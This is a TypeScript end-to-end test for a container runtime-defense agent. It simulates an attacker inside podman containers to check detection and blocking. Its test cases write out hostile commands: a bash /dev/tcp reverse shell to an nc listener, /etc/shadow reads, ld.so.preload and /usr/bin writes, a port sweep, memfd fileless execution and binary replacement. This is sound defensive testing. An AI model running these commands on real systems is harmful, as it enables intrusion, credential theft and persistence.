/**
 * Runtime defense on real containers: a Node.js HTTP service that counts hits in Redis (both on
 * Debian bookworm, the distribution's packages), profiled from its compose file, Dockerfiles and
 * saved images, watched by `charter agent` with the kernel sensor.
 *
 * - Protect mode, the static profile alone: 1,000 requests, every one answered, zero alerts.
 * - Attacks through `podman exec` (an attacker with a foothold in the container), each stopped in
 *   protect mode while the service keeps answering, then — the same containers switched to
 *   monitor with `charter mode` while the agent runs — each detected with its classification.
 *
 * Needs root on Linux (podman, runc, the sensor); skipped loudly elsewhere, never in CI.
 */
import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
import { cpSync, existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Charter, ContainerCharter } from '../../src/model/charter.js';
import { charterToJson } from '../../src/profile/serialize.js';
import type { AlertRecord } from '../../src/runtime/agent/types.js';
import { SENSOR_BINARY } from '../../src/runtime/sensor/sensor-process.js';
import { busyboxRootfsTar, BUSYBOX_SERVICE, debianNodeRootfs, debianRootfs } from '../../src/test-support/images.js';
import { canRunPodmanTests, cleanup, podman, podmanOk } from '../../src/test-support/podman.js';
import { profileTargets, repoRoot } from '../../src/test-support/profile.js';
import { buildAndSave, describeContainer, freePort, httpGet, tempDir, waitForHttp } from '../enforcement/harness.js';

const canRun = canRunPodmanTests('test/runtime-defense/hits.podman.test.ts', {
  untested: 'runtime defense (agent, sensor) on real containers',
});

const APP = path.join(repoRoot, 'test/runtime-defense/app');
const LABEL = 'charter-test=runtime-defense';
const IMAGES = {
  nodeBase: 'localhost/charter-rt/debian-node:base',
  redisBase: 'localhost/charter-rt/debian-redis:base',
  api: 'localhost/charter-rt/hits-api:test',
  cache: 'localhost/charter-rt/hits-cache:test',
  attacker: 'localhost/charter-rt/attacker:test',
};
const CTR = { api: 'charter-rt-api', cache: 'charter-rt-cache', attacker: 'charter-rt-attacker' };
const CLI = path.join(repoRoot, 'bin/charter.js');

interface Exec {
  status: number;
  out: string;
}

/** `podman exec` in a container; the attacker's foothold. */
function exec(container: string, argv: string[], user?: string): Exec {
  const r = podman(['exec', ...(user !== undefined ? ['-u', user] : []), container, ...argv], { timeoutMs: 60_000 });
  return { status: r.status ?? -1, out: `${r.stdout}${r.stderr}` };
}

/** A Node.js one-liner run by the container's own (allowed) node. */
const node = (code: string, user?: string): Exec => exec(CTR.api, ['node', '-e', code], user);

describe.skipIf(!canRun)('charter agent on a Node.js service and Redis under attack', () => {
  let dir = '';
  let profileFile = '';
  let alertsFile = '';
  let socket = '';
  let agent: ChildProcess | undefined;
  let agentOut = '';
  let port = 0;
  const ip: Record<'api' | 'cache' | 'attacker', string> = { api: '', cache: '', attacker: '' };
  let charter: Charter;
  const containers = [CTR.api, CTR.cache, CTR.attacker];

  const records = (): AlertRecord[] =>
    existsSync(alertsFile)
      ? readFileSync(alertsFile, 'utf8')
          .split('\n')
          .filter((l) => l !== '')
          .map((l) => JSON.parse(l) as AlertRecord)
      : [];
  const deviations = (from = 0): AlertRecord[] => records().filter((r) => r.seq > from && r.type === 'deviation');
  const lastSeq = (): number => records().at(-1)?.seq ?? 0;

  /** Waits for a deviation after `from` that `pred` accepts; fails with what did arrive. */
  async function alertAfter(from: number, pred: (r: AlertRecord) => boolean, what: string): Promise<AlertRecord> {
    const until = Date.now() + 10_000;
    while (Date.now() < until) {
      const hit = deviations(from).find(pred);
      if (hit) return hit;
      await new Promise((r) => setTimeout(r, 100));
    }
    throw new Error(
      `no alert for ${what}; got:\n${deviations(from)
        .map((r) => `${r.container}: ${r.verdict?.event} ${r.verdict?.deviation?.classification} ${r.verdict?.action}`)
        .join('\n')}\nagent output:\n${agentOut.slice(-3000)}`,
    );
  }

  const patternIds = (r: AlertRecord): string[] => r.verdict?.deviation?.patterns.map((p) => p.id) ?? [];

  /** The service still answers, and Redis still counts. */
  async function stillServing(): Promise<void> {
    const r = await httpGet(port, '/');
    expect(r.status, r.body).toBe(200);
    expect(JSON.parse(r.body).ok).toBe(true);
  }

  function startAgent(mode: 'monitor' | 'protect'): Promise<void> {
    const stateDir = path.join(dir, 'state');
    agent = spawn(
      process.execPath,
      [
        CLI,
        'agent',
        '--profile',
        profileFile,
        '--mode',
        mode,
        '--alerts',
        alertsFile,
        '--state-dir',
        stateDir,
        '--socket',
        socket,
        '--label',
        LABEL,
      ],
      { stdio: ['ignore', 'pipe', 'pipe'], env: { ...process.env } },
    );
    return new Promise((resolve, reject) => {
      const onData = (chunk: Buffer): void => {
        agentOut += chunk.toString();
        if (/\bready\b/.test(agentOut)) resolve();
      };
      agent?.stdout?.on('data', onData);
      agent?.stderr?.on('data', onData);
      agent?.on('exit', (code) => reject(new Error(`the agent exited (${String(code)}) before ready:\n${agentOut}`)));
      setTimeout(() => reject(new Error(`the agent was not ready within 60 s:\n${agentOut}`)), 60_000);
    });
  }

  /** `charter mode` while the agent runs. */
  function charterMode(container: string, mode: string): void {
    const r = spawnSync(process.execPath, [CLI, 'mode', container, mode, '--socket', socket], { encoding: 'utf8', timeout: 30_000 });
    expect(r.status, `${r.stdout}${r.stderr}`).toBe(0);
  }

  beforeAll(async () => {
    dir = tempDir('charter-rt-');
    podmanOk(['import', debianNodeRootfs(), IMAGES.nodeBase], { timeoutMs: 300_000 });
    podmanOk(['import', debianRootfs(['redis-server']), IMAGES.redisBase], { timeoutMs: 300_000 });
    podmanOk(['import', busyboxRootfsTar(dir, BUSYBOX_SERVICE), IMAGES.attacker], { timeoutMs: 120_000 });
    cpSync(APP, path.join(dir, 'app'), { recursive: true });
    const api = buildAndSave(path.join(dir, 'app/api'), IMAGES.api, path.join(dir, 'api.tar'));
    const cache = buildAndSave(path.join(dir, 'app/cache'), IMAGES.cache, path.join(dir, 'cache.tar'));
    charter = await profileTargets([path.join(dir, 'app'), api, cache], {}, 'hits');
    profileFile = path.join(dir, 'hits.charter.json');
    writeFileSync(profileFile, charterToJson(charter));
    alertsFile = path.join(dir, 'alerts.jsonl');
    socket = path.join(dir, 'agent.sock');

    // The attacker's listener: an address no charter declares.
    podmanOk(['run', '-d', '--name', CTR.attacker, IMAGES.attacker, 'nc', '-ll', '-p', '4444', '-e', '/bin/cat'], { timeoutMs: 60_000 });
    ip.attacker = podmanOk(['inspect', '-f', '{{.NetworkSettings.IPAddress}}', CTR.attacker]).trim();
    if (!/^\d+\.\d+\.\d+\.\d+$/.test(ip.attacker))
      throw new Error(`the attacker's listener has no address:\n${describeContainer(CTR.attacker)}`);

    await startAgent('protect');
    podmanOk(['run', '-d', '--name', CTR.cache, '--label', LABEL, IMAGES.cache], { timeoutMs: 60_000 });
    ip.cache = podmanOk(['inspect', '-f', '{{.NetworkSettings.IPAddress}}', CTR.cache]).trim();
    port = await freePort();
    podmanOk(
      [
        'run',
        '-d',
        '--name',
        CTR.api,
        '--label',
        LABEL,
        '--add-host',
        `cache:${ip.cache}`,
        '-e',
        'REDIS_HOST=cache',
        '-p',
        `127.0.0.1:${port}:8080`,
        IMAGES.api,
      ],
      { timeoutMs: 60_000 },
    );
    ip.api = podmanOk(['inspect', '-f', '{{.NetworkSettings.IPAddress}}', CTR.api]).trim();
    await waitForHttp(port, 30_000).catch((e: unknown) => {
      throw new Error(`${String(e)}\n${describeContainer(CTR.api)}\nagent:\n${agentOut}`);
    });
  }, 900_000);

  afterAll(async () => {
    if (agent && agent.exitCode === null) {
      agent.kill('SIGTERM');
      await new Promise((r) => agent?.once('exit', r));
    }
    if (canRun) cleanup(containers, [IMAGES.api, IMAGES.cache, IMAGES.attacker, IMAGES.nodeBase, IMAGES.redisBase]);
    if (dir !== '' && !process.env['CHARTER_E2E_KEEP']) rmSync(dir, { recursive: true, force: true });
  });

  it('the profile: node alone in the service, Redis alone in the cache, egress complete for both', () => {
    const byName = new Map(charter.containers.map((c) => [c.name, c] as [string, ContainerCharter]));
    expect(byName.get('api')?.processes.map((p) => p.path)).toEqual(['/usr/bin/node']);
    expect(byName.get('api')?.network.egressIntent?.state).toBe('complete');
    expect(byName.get('cache')?.processes.map((p) => p.path)).not.toContain('/usr/bin/dash');
    expect(byName.get('cache')?.network.egressIntent?.state).toBe('complete');
    expect(existsSync(SENSOR_BINARY)).toBe(true);
  });

  it('protect mode: 1,000 requests through the service and Redis, all answered, zero alerts', async () => {
    const before = lastSeq();
    let last = 0;
    for (let i = 0; i < 1000; i++) {
      const r = await httpGet(port, `/?i=${i}`);
      expect(r.status, r.body).toBe(200);
      last = JSON.parse(r.body).hits as number;
    }
    expect(last).toBeGreaterThanOrEqual(1000);
    await new Promise((r) => setTimeout(r, 500));
    expect(deviations(before).map((r) => r.verdict?.event)).toEqual([]);
    expect(
      records()
        .filter((r) => r.type === 'profile')
        .map((r) => r.message),
    ).toEqual([]);
  });

  describe('protect mode stops each attack; the service keeps answering', () => {
    it('a shell spawned in the service container', async () => {
      const from = lastSeq();
      const r = exec(CTR.api, ['/bin/sh', '-c', 'echo pwned']);
      expect(r.out).not.toContain('pwned');
      expect(r.status).not.toBe(0);
      const a = await alertAfter(from, (x) => x.verdict?.kind === 'exec' && x.verdict.action === 'block', 'a blocked shell');
      expect(a.verdict?.deviation?.classification).toBe('attack');
      expect(patternIds(a)).toContain('shell-in-service');
      await stillServing();
    });

    it('a binary copied at run time and executed, under an allowed name (drift)', async () => {
      const from = lastSeq();
      const r = node(
        "const fs=require('fs');fs.copyFileSync('/usr/bin/node','/tmp/node');fs.chmodSync('/tmp/node',0o755);" +
          "try{require('child_process').execFileSync('/tmp/node',['-e','console.log(\"ran\")'],{stdio:'pipe'});console.log('RAN')}catch(e){console.log('REFUSED',e.code||e.status)}",
      );
      expect(r.out).toContain('REFUSED');
      const a = await alertAfter(
        from,
        (x) => x.verdict?.kind === 'exec' && (x.verdict.event.includes('/tmp/node') ?? false),
        'the dropped /tmp/node',
      );
      expect(a.verdict?.deviation?.classification).toBe('drift');
      expect(a.verdict?.action).toBe('block');
      await stillServing();
    });

    it('a connection to an undeclared peer (the start of a reverse shell) is refused in the kernel', async () => {
      const from = lastSeq();
      const r = node(
        `require('net').connect(4444,'${ip.attacker}').on('connect',()=>{console.log('CONNECTED');process.exit(0)}).on('error',(e)=>{console.log('REFUSED',e.code);process.exit(3)})`,
      );
      expect(r.out).toContain('REFUSED EPERM');
      const a = await alertAfter(
        from,
        (x) => x.verdict?.kind === 'connect' && x.verdict.event.includes(`${ip.attacker}:4444`),
        'the refused connect',
      );
      expect(a.verdict?.action).toBe('block');
      await stillServing();
    });

    it('a reverse shell with bash', async () => {
      const from = lastSeq();
      const r = exec(CTR.api, ['bash', '-c', `bash -i >& /dev/tcp/${ip.attacker}/4444 0>&1`]);
      expect(r.status).not.toBe(0);
      await alertAfter(
        from,
        (x) => x.verdict?.kind === 'exec' && x.verdict.action === 'block' && x.verdict.event.includes('bash'),
        'bash refused',
      );
      await stillServing();
    });

    it('a scan of internal addresses from the database, with its own client', async () => {
      const from = lastSeq();
      const r = exec(CTR.cache, ['redis-cli', '-h', ip.api, '-p', '22', 'ping']);
      expect(r.out).toMatch(/not permitted|EPERM|Operation not permitted/i);
      await alertAfter(
        from,
        (x) => x.verdict?.kind === 'connect' && x.container === CTR.cache && x.verdict.action === 'block',
        'the refused scan',
      );
      await stillServing();
    });

    it('ping (a raw socket) from the database: the tool never runs', async () => {
      const from = lastSeq();
      const r = exec(CTR.cache, ['perl', '-MSocket', '-e', 'socket(my $s, PF_INET, SOCK_RAW, 1) or die "raw: $!\\n"; print "RAW\\n"'], '0');
      expect(r.out).not.toContain('RAW\n');
      await alertAfter(from, (x) => x.container === CTR.cache && x.verdict?.action === 'block', 'perl refused');
      await stillServing();
    });

    it('a write into /usr/bin', async () => {
      const from = lastSeq();
      const r = node(
        "try{require('fs').writeFileSync('/usr/bin/evil','#!/bin/sh\\n');console.log('WROTE')}catch(e){console.log('REFUSED',e.code)}",
        '0',
      );
      expect(r.out).toContain('REFUSED EPERM');
      const a = await alertAfter(from, (x) => x.verdict?.kind === 'open' && x.verdict.event.includes('/usr/bin/evil'), 'the refused write');
      expect(patternIds(a)).toContain('binary-directory-write');
      await stillServing();
    });

    it('a read of /etc/shadow', async () => {
      const from = lastSeq();
      const r = node("try{require('fs').readFileSync('/etc/shadow');console.log('READ')}catch(e){console.log('REFUSED',e.code)}", '0');
      expect(r.out).toContain('REFUSED EPERM');
      const a = await alertAfter(from, (x) => x.verdict?.kind === 'open' && x.verdict.event.includes('/etc/shadow'), 'the refused read');
      expect(a.verdict?.deviation?.classification).toBe('attack');
      expect(patternIds(a)).toContain('credential-files');
      await stillServing();
    });

    it('an /etc/ld.so.preload write', async () => {
      const from = lastSeq();
      const r = node(
        "try{require('fs').writeFileSync('/etc/ld.so.preload','/tmp/x.so\\n');console.log('WROTE')}catch(e){console.log('REFUSED',e.code)}",
        '0',
      );
      expect(r.out).toContain('REFUSED EPERM');
      const a = await alertAfter(
        from,
        (x) => x.verdict?.kind === 'open' && x.verdict.event.includes('/etc/ld.so.preload'),
        'the refused preload',
      );
      expect(patternIds(a)).toContain('dynamic-linker-hijack');
      await stillServing();
    });
  });

  describe('protect mode, after the fact: a write outside the writable paths', () => {
    it("an implant appended to the service's code: seen as it is closed, the writer killed", async () => {
      const from = lastSeq();
      // A writer that lingers, as an implant's dropper would: the kernel cannot refuse the write
      // without judging every open, so the ladder kills the writer once the file is closed.
      const r = node(
        "require('fs').appendFileSync('/app/server.js','\\n// implant\\n');console.log('WROTE');setTimeout(()=>console.log('LIVED'),5000)",
        '0',
      );
      expect(r.status, r.out).toBe(137);
      expect(r.out).not.toContain('LIVED');
      // The write happened (it could not be refused): the alert is what tells.
      expect(node("console.log(require('fs').readFileSync('/app/server.js','utf8').includes('implant'))").out).toContain('true');
      const a = await alertAfter(from, (x) => x.verdict?.kind === 'open' && x.verdict.event.includes('/app/server.js'), 'the write');
      expect(a.verdict?.action).toBe('block');
      expect(a.actions?.map((s) => [s.step, s.ok])).toEqual([
        ['alert', true],
        ['kill', true],
      ]);
      await stillServing();
    });
  });

  describe('switched to monitor while the agent runs: each attack is seen and classified', () => {
    beforeAll(() => {
      charterMode(CTR.api, 'monitor');
      charterMode(CTR.cache, 'monitor');
    });

    it('a shell: attack, shell in a service container', async () => {
      const from = lastSeq();
      expect(exec(CTR.api, ['/bin/sh', '-c', 'echo pwned']).out).toContain('pwned');
      const a = await alertAfter(from, (x) => x.verdict?.kind === 'exec' && x.verdict.action === 'alert', 'the shell');
      expect(a.verdict?.deviation?.classification).toBe('attack');
      expect(patternIds(a)).toContain('shell-in-service');
      await stillServing();
    });

    it('a dropped binary run: drift, with the dropped-binary pattern', async () => {
      const from = lastSeq();
      const r = node(
        "const fs=require('fs');fs.copyFileSync('/usr/bin/node','/tmp/node2');fs.chmodSync('/tmp/node2',0o755);console.log(require('child_process').execFileSync('/tmp/node2',['-e','console.log(\"RAN\")']).toString())",
      );
      expect(r.out).toContain('RAN');
      const a = await alertAfter(from, (x) => x.verdict?.kind === 'exec' && x.verdict.event.includes('/tmp/node2'), 'the dropped binary');
      expect(a.verdict?.deviation?.classification).toBe('drift');
      expect(patternIds(a)).toContain('dropped-binary');
    });

    it('a reverse shell: the shell with /dev/tcp, and its connection to the undeclared peer', async () => {
      const from = lastSeq();
      exec(CTR.api, ['bash', '-c', `exec 3<>/dev/tcp/${ip.attacker}/4444; echo hi >&3; exec 3>&-`]);
      const shell = await alertAfter(from, (x) => x.verdict?.kind === 'exec' && x.verdict.event.includes('/dev/tcp/'), 'the shell');
      expect(patternIds(shell)).toContain('reverse-shell');
      const a = await alertAfter(
        from,
        (x) => x.verdict?.kind === 'connect' && x.verdict.event.includes(`${ip.attacker}:4444`),
        'the reverse connection',
      );
      expect(a.verdict?.action).toBe('alert');
      expect(patternIds(a)).toContain('shell-network-connection');
      await stillServing();
    });

    it('a scan of internal addresses from the database: internal sweep', async () => {
      const from = lastSeq();
      exec(CTR.cache, ['bash', '-c', `for p in $(seq 20 31); do (exec 3<>/dev/tcp/${ip.api}/$p) 2>/dev/null; done; true`]);
      const a = await alertAfter(from, (x) => x.container === CTR.cache && patternIds(x).includes('internal-scan'), 'the sweep');
      expect(a.verdict?.deviation?.classification).toBe('attack');
      await stillServing();
    });

    it('a raw socket from the database: raw-socket attack', async () => {
      const from = lastSeq();
      exec(CTR.cache, ['perl', '-MSocket', '-e', 'socket(my $s, PF_INET, SOCK_RAW, 1) or die "raw: $!\\n"; print "RAW\\n"'], '0');
      const a = await alertAfter(from, (x) => x.container === CTR.cache && patternIds(x).includes('raw-socket'), 'the raw socket');
      expect(a.verdict?.deviation?.classification).toBe('attack');
    });

    it('code run from memory (memfd): fileless execution', async () => {
      const from = lastSeq();
      const r = exec(
        CTR.api,
        [
          'perl',
          '-e',
          'my $n = "x"; $fd = syscall(319, $n, 0); open($s, "<", "/usr/bin/true") or die; local $/; $d = <$s>; open($o, ">&=", $fd) or die "fdopen $!"; syswrite($o, $d); exec {"/proc/self/fd/$fd"} "fileless" or die "exec $!"',
        ],
        '0',
      );
      expect(r.status, r.out).toBe(0);
      const a = await alertAfter(from, (x) => patternIds(x).includes('fileless-memfd'), 'the memfd exec');
      expect(['attack', 'drift']).toContain(a.verdict?.deviation?.classification);
    });

    it('/etc/shadow read and /usr/bin write are seen', async () => {
      const from = lastSeq();
      node("require('fs').readFileSync('/etc/shadow');require('fs').writeFileSync('/usr/bin/evil2','x')", '0');
      await alertAfter(from, (x) => patternIds(x).includes('credential-files'), '/etc/shadow');
      await alertAfter(from, (x) => patternIds(x).includes('binary-directory-write'), '/usr/bin write');
      await stillServing();
    });
  });

  it("an allowed program changed in place: drift, the image's sha256 beside the new one", async () => {
    const pinned = charter.containers.find((c) => c.name === 'api')?.processes.find((p) => p.path === '/usr/bin/node')?.sha256;
    expect(pinned).toMatch(/^[0-9a-f]{64}$/);
    const from = lastSeq();
    // The running server holds /usr/bin/node (a write in place is ETXTBSY): the file is replaced, as an attacker would.
    const replaced = exec(
      CTR.api,
      [
        'perl',
        '-e',
        'open(I, "<", "/usr/bin/node") or die; binmode I; local $/; $d = <I>; open(O, ">", "/usr/bin/node.new") or die "$!"; binmode O; print O $d, "\\0"; close O; chmod 0755, "/usr/bin/node.new"; rename("/usr/bin/node.new", "/usr/bin/node") or die "$!"',
      ],
      '0',
    );
    expect(replaced.status, replaced.out).toBe(0);
    expect(node('console.log("still-runs")').out).toContain('still-runs');
    const a = await alertAfter(
      from,
      (x) => x.verdict?.kind === 'exec' && x.verdict.event.startsWith('exec /usr/bin/node'),
      'the changed node',
    );
    expect(a.verdict?.deviation?.classification).toBe('drift');
    expect(a.verdict?.deviation?.missing).toContain(`sha256 ${pinned!.slice(0, 12)}`);
    expect(a.verdict?.deviation?.missing).toMatch(/this file is [0-9a-f]{12}/);
  });

  it('SIGTERM stops the agent cleanly', async () => {
    expect(agent?.exitCode).toBeNull();
    agent?.kill('SIGTERM');
    const code = await new Promise<number | null>((r) => agent?.once('exit', (c) => r(c)));
    expect(code, agentOut.slice(-2000)).toBe(0);
    // No exec is held once the agent is gone.
    expect(exec(CTR.api, ['/bin/sh', '-c', 'echo after']).out).toContain('after');
  });

  it('the agent killed with SIGKILL in protect mode: the host is not held, and its restart reports the gap', async () => {
    agentOut = '';
    await startAgent('protect');
    // Enforcing again: a shell is refused.
    expect(exec(CTR.api, ['/bin/sh', '-c', 'echo refused-while-up']).out).not.toContain('refused-while-up');
    agent?.kill('SIGKILL');
    await new Promise((r) => agent?.once('exit', r));
    // The loader sees its agent gone (stdin closed) and exits; the kernel then lets every exec through.
    const until = Date.now() + 10_000;
    let out = '';
    while (Date.now() < until && !out.includes('after-kill')) {
      out = exec(CTR.api, ['/bin/sh', '-c', 'echo after-kill']).out;
      if (!out.includes('after-kill')) await new Promise((r) => setTimeout(r, 200));
    }
    expect(out).toContain('after-kill');
    await stillServing();
    const before = lastSeq();
    agentOut = '';
    await startAgent('protect');
    let gap: AlertRecord | undefined;
    for (let i = 0; i < 50 && !gap; i++) {
      gap = records().find((r) => r.seq > before && r.type === 'gap');
      if (!gap) await new Promise((r) => setTimeout(r, 100));
    }
    expect(gap?.message, agentOut).toMatch(/not watching/);
    agent?.kill('SIGTERM');
    await new Promise((r) => agent?.once('exit', r));
  });
});
